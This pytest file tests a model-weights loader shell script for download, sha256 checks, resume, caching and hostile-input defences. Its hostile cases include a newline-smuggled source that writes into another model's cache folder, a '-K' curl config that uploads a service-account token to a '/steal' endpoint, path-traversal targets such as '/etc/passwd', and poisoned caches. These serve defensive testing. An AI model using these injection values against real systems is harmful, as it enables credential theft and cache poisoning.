"""The loader's shell script, run for real (sh, curl, sha256sum) against a local HTTP server:
download, sha256 match and mismatch, resume, cache reuse, OnChange revalidation, the
termination message it writes, and hostile input (issue 27 items 1-4): a source with
newlines or a leading '-', two loaders racing on one folder, a poisoned cache, a
redirect from https to http.

Every test runs once under the machine's sh with its coreutils and, where busybox is
installed, once under busybox's sh and applets (what curlimages/curl has).

Here the tests that need no API server; those that run on the test API server are in
tests/server/test_loader_script.py.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from api import ModelSpec, parse_model
from reconcilers.sources.loader import WeightsVolume, loader_for
from tests.support.loader_script import (
    BODY,
    EVIL,
    EVIL_SUM,
    SUM,
    Origin,
    _result,
    _serve,
    _tls,
    run,
    start,
)

HOLD = 100_000  # a held response sends this much, and curl writes some of it
CACHE = WeightsVolume(claim="model-cache")


def model_env(model: ModelSpec, store: WeightsVolume = CACHE) -> dict[str, str]:
    """The loader's env as the controller builds it (its value entries)."""
    loading = loader_for(model, store, runtime="llamacpp")
    assert loading is not None
    return {e["name"]: e["value"] for e in loading.container["env"] if "value" in e}


def plain(entries: list[tuple[str, str]], **env: str) -> dict[str, str]:
    """The env for (URL, file) entries into /models/key1."""
    given = {
        "LOADER_DIR": "/models/key1",
        "LOADER_PATH": "/models/key1/" + entries[0][1],
        "LOADER_CACHE_KEY": "key1",
        "LOADER_COUNT": str(len(entries)),
        **env,
    }
    for i, (url, rel) in enumerate(entries):
        given[f"LOADER_URL_{i}"] = url
        given[f"LOADER_FILE_{i}"] = rel
    return given


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def until(check: Callable[[], bool], what: str) -> None:
    """Wait for a state (never a verdict by itself: it fails only if the state never comes)."""
    deadline = time.monotonic() + 30
    while not check():
        assert time.monotonic() < deadline, f"never: {what}"
        time.sleep(0.02)


def kill_midway(tmp: Path, o: Origin, given: dict[str, str], shell: str, folder: Path) -> None:
    """Start pod-a's loader and kill it (as the kubelet would) with part of the file on disk."""
    o.hold = HOLD
    loader = start(tmp, given, shell, "pod-a")
    until(
        lambda: any(b for n, b in files_under(folder).items() if n.endswith(".part")),
        "part of the file on disk",
    )
    os.killpg(loader.pid, signal.SIGKILL)
    loader.wait()
    o.hold = None
    o.release.set()


# -- what the loader does -------------------------------------------------------------


def test_download_verifies_sha256_and_reports(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    given = plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM)
    rc, msg, out = run(tmp_path, given, shell)
    assert rc == 0, out
    assert msg == {
        "cacheKey": "key1",
        "path": f"{tmp_path}/models/key1/model.gguf",
        "size": str(len(BODY)),
        "sha256": SUM,
        "stagedFiles": ["model.gguf"],
        "downloaded": ["model.gguf"],
        "sourceETag": '"v1"',
        "files": [{"name": "model.gguf", "size": len(BODY), "sha256": SUM, "digestSource": "spec"}],
        "filesOmitted": 0,
    }
    folder = tmp_path / "models/key1"
    assert (folder / "model.gguf").read_bytes() == BODY
    # Only the file and the loader's hidden sidecars are left: no part.
    assert sorted(files_under(folder)) == [".model.gguf.etag", ".model.gguf.sha256", "model.gguf"]
    # A second replica (or a restart) reuses the cached file: no request at all.
    o.gets.clear()
    rc, msg, out = run(tmp_path, given, shell, pod="pod-b")
    assert rc == 0, out
    assert o.gets == []
    assert msg["downloaded"] == [] and msg["sha256"] == SUM and msg["stagedFiles"] == ["model.gguf"]


def test_sha256_mismatch_fails_and_leaves_no_file(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    wrong = "0" * 64
    rc, msg, out = run(
        tmp_path, plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=wrong), shell
    )
    assert rc == 1, out
    assert msg == {
        "cacheKey": "key1",
        "error": "Sha256Mismatch",
        "file": "model.gguf",
        "expected": wrong,
        "actual": SUM,
        "expectedFrom": "spec",
    }
    assert files_under(tmp_path / "models/key1") == {}


def test_cached_file_with_another_digest_is_not_used(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    entries = [(f"{url}/model.gguf", "model.gguf")]
    assert run(tmp_path, plain(entries), shell)[0] == 0
    rc, msg, _ = run(tmp_path, plain(entries, LOADER_SHA256_0="1" * 64), shell)
    assert rc == 1 and msg["error"] == "Sha256Mismatch" and msg["actual"] == SUM
    # The copy in the cache stays (it is what the source serves); this Model does not use it.
    assert (tmp_path / "models/key1/model.gguf").read_bytes() == BODY


def test_a_part_left_by_a_killed_loader_is_resumed(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    given = plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM)
    folder = tmp_path / "models/key1"
    kill_midway(tmp_path, o, given, shell, folder)
    (written,) = (len(b) for n, b in files_under(folder).items() if n.endswith(".part"))
    o.gets.clear()
    rc, msg, out = run(tmp_path, given, shell, pod="pod-a")  # the restarted init container
    assert rc == 0, out
    assert o.gets == [("/model.gguf", f"bytes={written}-")]
    assert (folder / "model.gguf").read_bytes() == BODY
    assert msg["sha256"] == SUM


def test_a_cut_transfer_is_fetched_again(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    o.cut = 1000
    rc, msg, out = run(
        tmp_path, plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM), shell
    )
    assert rc == 0, out
    assert len(o.gets) == 2 and msg["sha256"] == SUM


def test_several_files_and_download_failure(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    entries = [(f"{url}/model.gguf", "model.gguf"), (f"{url}/b.bin", "sub/b.bin")]
    rc, msg, out = run(tmp_path, plain(entries), shell)
    assert rc == 0, out
    assert msg["stagedFiles"] == ["model.gguf", "sub/b.bin"]
    assert (tmp_path / "models/key1/sub/b.bin").read_bytes() == b"second file"
    rc, msg, _ = run(tmp_path, plain([*entries, (f"{url}/missing.bin", "missing.bin")]), shell)
    assert rc == 1 and msg["error"] == "DownloadFailed" and msg["file"] == "missing.bin"


def test_on_change_revalidates_with_the_etag(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    o, url = origin
    entries = [(f"{url}/model.gguf", "model.gguf")]
    assert run(tmp_path, plain(entries, LOADER_REFRESH="OnChange"), shell)[0] == 0
    o.gets.clear()
    rc, msg, out = run(tmp_path, plain(entries, LOADER_REFRESH="OnChange"), shell)
    assert rc == 0, out
    assert len(o.gets) == 1 and msg["downloaded"] == []  # 304: kept
    # The source changes: a new ETag, a new body, downloaded and reported.
    o.files["/model.gguf"] = b"new weights"
    o.etag = '"v2"'
    rc, msg, out = run(tmp_path, plain(entries, LOADER_REFRESH="OnChange"), shell)
    assert rc == 0, out
    assert msg["downloaded"] == ["model.gguf"] and msg["sourceETag"] == '"v2"'
    assert msg["sha256"] == hashlib.sha256(b"new weights").hexdigest()
    assert (tmp_path / "models/key1/model.gguf").read_bytes() == b"new weights"
    # IfNotPresent never asks again.
    o.gets.clear()
    assert run(tmp_path, plain(entries), shell)[0] == 0 and o.gets == []


def test_a_stale_part_is_removed_a_live_one_is_not(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    _, url = origin
    folder = tmp_path / "models/key1"
    folder.mkdir(parents=True)
    stale, live = folder / ".model.gguf.gone-pod.part", folder / ".model.gguf.other-pod.part"
    stale.write_bytes(b"x")
    live.write_bytes(b"y")
    day_ago = time.time() - 2 * 86400
    os.utime(stale, (day_ago, day_ago))
    assert run(tmp_path, plain([(f"{url}/model.gguf", "model.gguf")]), shell)[0] == 0
    assert not stale.exists() and live.exists()


# -- hostile input (issue 27) ---------------------------------------------------------


def test_1_a_newline_in_a_source_writes_nothing_into_another_models_folder(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """`source: "https://a/x\\nhttps://evil/f ../<victimKey>/victim.gguf\\n..."` (stored
    before the pattern was anchored) stages the attacker's file and sidecar into the
    victim's cache folder before the victim's first pod: the victim then logs `cached` and
    serves them. The loader takes one URL and one target per file, so the newline stays
    inside one URL, curl refuses it, and nothing is written outside the folder."""
    o, url = origin
    victim = ModelSpec(source=f"{url}/model.gguf", sha256=SUM)
    vkey = victim.cache_key
    o.files["/evil.gguf"] = EVIL
    o.files["/evil.sum"] = f"{SUM}\n".encode()  # the sidecar the victim would trust
    hostile = ModelSpec(
        source=f"{url}/x\n{url}/evil.gguf ../{vkey}/model.gguf\n"
        f"{url}/evil.sum ../{vkey}/.model.gguf.sha256\n{url}/b.bin"
    )
    run(tmp_path, model_env(hostile), shell)
    assert not (tmp_path / "models" / vkey).exists()
    assert ("/evil.gguf", None) not in o.gets
    rc, msg, out = run(tmp_path, model_env(victim), shell)
    assert rc == 0, out
    assert (tmp_path / "models" / vkey / "model.gguf").read_bytes() == BODY
    assert msg["sha256"] == SUM and msg["downloaded"] == ["model.gguf"]


def test_2_a_source_line_starting_with_a_dash_is_never_a_curl_option(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """A line `-K<file>` made curl read the attacker's config, which uploads a local file
    (the service-account token) to the attacker."""
    o, url = origin
    token = tmp_path / "token"
    token.write_text("service-account-token")
    config = tmp_path / "evil.cfg"
    config.write_text(f'url = "{url}/steal"\nupload-file = "{token}"\n')
    hostile = ModelSpec(source=f"{url}/x\n-K{config} y.gguf\n{url}/b.bin")
    rc, _, _ = run(tmp_path, model_env(hostile), shell)
    assert o.puts == []
    assert rc == 1
    # The script itself: a URL value is one http(s) URL, given to curl's --url.
    rc, msg, _ = run(tmp_path, plain([(f"-K{config}", "model.gguf")]), shell)
    assert rc == 1 and msg["error"] == "BadSource" and o.puts == []


def test_3_two_loaders_racing_on_one_folder_stage_one_whole_file(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """A replica restarted after a kill and a second replica (or a prefetch Job) download
    the same cacheKey at once. They shared one `.part` appended with `curl -C -`: both
    appended the rest of the file and a corrupt, oversized file was renamed into place.
    Each loader now writes its own part; the first complete one is linked into place."""
    o, url = origin
    model = ModelSpec(source=f"{url}/model.gguf")
    given = model_env(model)
    folder = tmp_path / "models" / model.cache_key
    kill_midway(tmp_path, o, given, shell, folder)
    # Neither response sends a byte before both requests are being answered.
    o.barrier = threading.Barrier(2, timeout=30)
    loaders = {pod: start(tmp_path, given, shell, pod) for pod in ("pod-a", "pod-b")}
    outcomes = {}
    for pod, p in loaders.items():
        out, _ = p.communicate(timeout=60)
        outcomes[pod] = _result(tmp_path, pod, p, out)
    for pod, (rc, msg, out) in outcomes.items():
        assert rc == 0, f"{pod}: {out}"
        assert msg["sha256"] == SUM and msg["size"] == str(len(BODY)), pod
    assert (folder / "model.gguf").read_bytes() == BODY
    assert (folder / ".model.gguf.sha256").read_text().split()[0] == SUM
    assert [n for n in files_under(folder) if n.endswith(".part")] == []
    # A third replica reuses the file as it is.
    o.gets.clear()
    rc, msg, _ = run(tmp_path, given, shell, pod="pod-c")
    assert rc == 0 and o.gets == [] and msg["sha256"] == SUM


@pytest.mark.parametrize("pinned", [True, False])
def test_3_a_copy_published_while_a_loader_downloads(
    tmp_path: Path, origin: tuple[Origin, str], shell: str, pinned: bool
) -> None:
    """Another loader links its copy into place while this one downloads: this one uses
    it (the first complete copy wins), unless spec.sha256 pins the file and theirs is not
    it: then this one's verified copy replaces it."""
    o, url = origin
    model = ModelSpec(source=f"{url}/model.gguf", sha256=SUM if pinned else None)
    folder = tmp_path / "models" / model.cache_key
    o.hold = HOLD
    loader = start(tmp_path, model_env(model), shell, "pod-a")
    until(
        lambda: any(b for n, b in files_under(folder).items() if n.endswith(".part")),
        "part of the file on disk",
    )
    (folder / "model.gguf").write_bytes(EVIL)  # the other loader's copy
    o.hold = None
    o.release.set()
    out, _ = loader.communicate(timeout=60)
    rc, msg, _ = _result(tmp_path, "pod-a", loader, out)
    assert rc == 0, out
    assert (folder / "model.gguf").read_bytes() == (BODY if pinned else EVIL)
    assert msg["sha256"] == (SUM if pinned else EVIL_SUM)
    assert [n for n in files_under(folder) if n.endswith(".part")] == []


def test_a_volume_without_hard_links_publishes_by_rename(
    tmp_path: Path, origin: tuple[Origin, str]
) -> None:
    _, url = origin
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "ln").write_text("#!/bin/sh\necho 'ln: Operation not permitted' >&2\nexit 1\n")
    (bin_dir / "ln").chmod(0o755)
    given = plain([(f"{url}/model.gguf", "model.gguf")], LOADER_SHA256_0=SUM)
    rc, msg, out = run(tmp_path, given, f"{bin_dir}:/usr/bin:/bin")
    assert rc == 0 and msg["sha256"] == SUM, out
    assert (tmp_path / "models/key1/model.gguf").read_bytes() == BODY
    assert [n for n in files_under(tmp_path / "models") if n.endswith(".part")] == []


def test_4_a_poisoned_cached_file_is_hashed_again_and_replaced_when_sha256_is_set(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """The cached file changed after it was staged (another writer, a bad disk) and its
    sidecar still says the pinned digest: it was used as `cached` without being read."""
    _, url = origin
    model = ModelSpec(source=f"{url}/model.gguf", sha256=SUM)
    assert run(tmp_path, model_env(model), shell)[0] == 0
    folder = tmp_path / "models" / model.cache_key
    (folder / "model.gguf").write_bytes(EVIL)
    (folder / ".model.gguf.sha256").write_text(f"{SUM}\n")
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    assert (folder / "model.gguf").read_bytes() == BODY
    assert msg["sha256"] == SUM and msg["downloaded"] == ["model.gguf"]


def test_4_a_cached_file_without_sha256_reports_its_own_digest(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """Without spec.sha256 the sidecar is a cache of the digest, kept only while it is of
    the very file (its inode, size and mtime): status never reports a digest the file on
    disk does not have."""
    _, url = origin
    model = ModelSpec(source=f"{url}/model.gguf")
    assert run(tmp_path, model_env(model), shell)[0] == 0
    folder = tmp_path / "models" / model.cache_key
    (folder / "model.gguf").write_bytes(EVIL)
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    assert msg["sha256"] == EVIL_SUM and msg["size"] == str(len(EVIL))


@pytest.fixture
def tls_origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Origin, str, str]]:
    """An https origin with a self-signed certificate for 127.0.0.1, and its CA file."""
    context, ca = _tls(tmp_path_factory.mktemp("tls"))
    o = Origin()
    for url in _serve(o, context):
        yield o, url, ca


def test_4_a_redirect_from_https_to_http_is_not_followed(
    tmp_path: Path,
    origin: tuple[Origin, str],
    tls_origin: tuple[Origin, str, str],
    shell: str,
) -> None:
    plain_origin, http_url = origin
    o, https_url, ca = tls_origin
    # https to https is followed (a hub's CDN does this).
    o.redirects["/hop.gguf"] = f"{https_url}/model.gguf"
    hop = ModelSpec(source=f"{https_url}/hop.gguf", sha256=SUM)
    rc, msg, out = run(tmp_path, {**model_env(hop), "CURL_CA_BUNDLE": ca}, shell)
    assert rc == 0 and msg["sha256"] == SUM, out
    # https to http is not: the file would travel in clear, open to anyone on the path.
    o.redirects["/model.gguf"] = f"{http_url}/model.gguf"
    model = ModelSpec(source=f"{https_url}/model.gguf")
    rc, msg, out = run(tmp_path, {**model_env(model), "CURL_CA_BUNDLE": ca}, shell)
    assert rc == 1 and msg["error"] == "DownloadFailed", out
    assert plain_origin.gets == []
    assert not (tmp_path / "models" / model.cache_key / "model.gguf").exists()


@pytest.mark.parametrize(
    "target",
    ["../other/model.gguf", "/etc/passwd", ".model.gguf.sha256", "sub/../../x", "a\nb", "sub/"],
)
def test_a_target_outside_the_folder_or_hidden_is_refused(
    tmp_path: Path, origin: tuple[Origin, str], target: str
) -> None:
    o, url = origin
    rc, msg, _ = run(tmp_path, plain([(f"{url}/model.gguf", target)]))
    assert rc == 1 and msg["error"] == "BadTarget" and msg["file"] == target.replace("\n", "?")
    assert o.gets == []
    assert not (tmp_path / "models").exists() or files_under(tmp_path / "models") == {}


# -- every file verified (issue 34 part 2) ----------------------------------------------

PROJECTOR = b"GGUF projector weights"
SECOND = b"second file"


def _multi_file_model(url: str, **spec: Any) -> ModelSpec:
    return parse_model({"source": url, "files": ["model.gguf", "b.bin"], **spec})


def test_a_pinned_mmproj_that_was_tampered_with_fails_naming_it(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """spec.fileDigests pins the projector: the origin serves other bytes, so the loader
    exits 1 naming mmproj.gguf, and no projector is left at its final name."""
    o, url = origin
    o.files["/mmproj.gguf"] = EVIL
    model = _multi_file_model(
        url,
        mmproj="mmproj.gguf",
        fileDigests=[{"file": "mmproj.gguf", "sha256": hashlib.sha256(PROJECTOR).hexdigest()}],
    )
    rc, msg, out = run(tmp_path, model_env(model), shell)
    assert rc == 1, out
    assert msg["error"] == "Sha256Mismatch" and msg["file"] == "mmproj.gguf", msg
    assert msg["actual"] == EVIL_SUM and msg["expectedFrom"] == "spec"
    assert not (tmp_path / "models" / model.cache_key / "mmproj.gguf").exists()
    # The honest projector is staged, and reported as pinned by the spec.
    o.files["/mmproj.gguf"] = PROJECTOR
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    sources = {f["name"]: f["digestSource"] for f in msg["files"]}
    assert sources == {"model.gguf": "computed", "b.bin": "computed", "mmproj.gguf": "spec"}


def test_a_pinned_second_shard_swapped_in_the_cache_is_downloaded_again(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """A cached second shard with another digest (its sidecar rewritten to match) is
    hashed again, because it is pinned, and replaced by the origin's copy."""
    _, url = origin
    model = _multi_file_model(
        url, fileDigests=[{"file": "b.bin", "sha256": hashlib.sha256(SECOND).hexdigest()}]
    )
    assert run(tmp_path, model_env(model), shell)[0] == 0
    folder = tmp_path / "models" / model.cache_key
    (folder / "b.bin").write_bytes(EVIL)
    (folder / ".b.bin.sha256").write_text(f"{hashlib.sha256(SECOND).hexdigest()}\n")
    rc, msg, out = run(tmp_path, model_env(model), shell, pod="pod-b")
    assert rc == 0, out
    assert (folder / "b.bin").read_bytes() == SECOND
    assert msg["downloaded"] == ["b.bin"]


def _hub(o: Origin, url: str, name: str, body: bytes, linked: str | None) -> str:
    """The hub's resolve URL for name (an https origin: the loader follows redirects to
    https only): a 302 to the CDN with X-Linked-Etag (LFS), or
    without it (a file kept in git)."""
    o.files[f"/cdn/{name}"] = body
    o.redirects[f"/org/repo/resolve/main/{name}"] = f"{url}/cdn/{name}"
    if linked is not None:
        o.linked[f"/org/repo/resolve/main/{name}"] = f'"{linked}"'
    return f"{url}/org/repo/resolve/main/{name}"


def test_a_hub_download_is_checked_against_x_linked_etag_pinned_or_not(
    tmp_path: Path, tls_origin: tuple[Origin, str, str], shell: str
) -> None:
    o, url, ca = tls_origin
    good = _hub(o, url, "model.gguf", BODY, SUM)
    rc, msg, out = run(
        tmp_path, plain([(good, "model.gguf")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell
    )
    assert rc == 0, out
    assert msg["files"][0]["digestSource"] == "hub" and msg["sha256"] == SUM
    # A replica reuses the hub-vouched digest recorded beside the file.
    rc, msg, out = run(
        tmp_path, plain([(good, "model.gguf")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell, "pod-b"
    )
    assert rc == 0 and msg["files"][0]["digestSource"] == "hub", out
    # The CDN hands out other bytes than the hub published: refused, nothing at its name.
    bad = _hub(o, url, "evil.gguf", EVIL, SUM)
    rc, msg, out = run(
        tmp_path, plain([(bad, "evil.gguf")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell
    )
    assert rc == 1, out
    assert msg["error"] == "Sha256Mismatch" and msg["file"] == "evil.gguf"
    assert msg["expected"] == SUM and msg["actual"] == EVIL_SUM and msg["expectedFrom"] == "hub"
    assert not (tmp_path / "models/key1/evil.gguf").exists()


def test_a_hub_file_without_x_linked_etag_is_reported_computed(
    tmp_path: Path, tls_origin: tuple[Origin, str, str], shell: str
) -> None:
    o, url, ca = tls_origin
    config = _hub(o, url, "config.json", b"{}", None)
    rc, msg, out = run(
        tmp_path, plain([(config, "config.json")], LOADER_HUB="1", CURL_CA_BUNDLE=ca), shell
    )
    assert rc == 0, out
    assert msg["files"] == [
        {
            "name": "config.json",
            "size": 2,
            "sha256": hashlib.sha256(b"{}").hexdigest(),
            "digestSource": "computed",
        }
    ]


def test_x_linked_etag_is_read_only_from_hub_sources(
    tmp_path: Path, tls_origin: tuple[Origin, str, str], shell: str
) -> None:
    """Any other server's X-Linked-Etag means nothing: it neither fails nor vouches."""
    o, url, ca = tls_origin
    other = _hub(o, url, "model.gguf", BODY, "0" * 64)
    rc, msg, out = run(tmp_path, plain([(other, "model.gguf")], CURL_CA_BUNDLE=ca), shell)
    assert rc == 0 and msg["files"][0]["digestSource"] == "computed", out


def test_a_url_with_brackets_is_one_request(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """curl globs `[1-3]` into three URLs unless told --globoff."""
    o, url = origin
    o.files["/g[1-3].gguf"] = BODY
    rc, _, out = run(tmp_path, plain([(f"{url}/g[1-3].gguf", "g.gguf")]), shell)
    assert rc == 0, out
    assert [path for path, _ in o.gets] == ["/g[1-3].gguf"]


def test_the_report_fits_the_termination_message_and_counts_the_rest(
    tmp_path: Path, origin: tuple[Origin, str], shell: str
) -> None:
    """The kubelet keeps 4096 bytes of a termination message: 80 files with long names
    cannot all be listed, so the loader lists what fits and says how many it left out."""
    o, url = origin
    entries = []
    for n in range(80):
        name = f"shard-{n:03d}-of-080-{'x' * 40}.safetensors"
        o.files[f"/{name}"] = b"%d" % n
        entries.append((f"{url}/{name}", name))
    rc, _, out = run(tmp_path, plain(entries), shell)
    assert rc == 0, out
    raw = (tmp_path / "termination-log-pod-a").read_bytes()
    msg = json.loads(raw)
    assert len(raw) <= 4096
    assert msg["files"] and msg["filesOmitted"] == 80 - len(msg["files"]) > 0
    assert len(msg["stagedFiles"]) + msg.get("stagedOmitted", 0) == 80
    assert len(msg["downloaded"]) + msg.get("downloadedOmitted", 0) == 80
    # What it lists is what it staged, in order.
    assert [f["name"] for f in msg["files"]] == [name for _, name in entries][: len(msg["files"])]
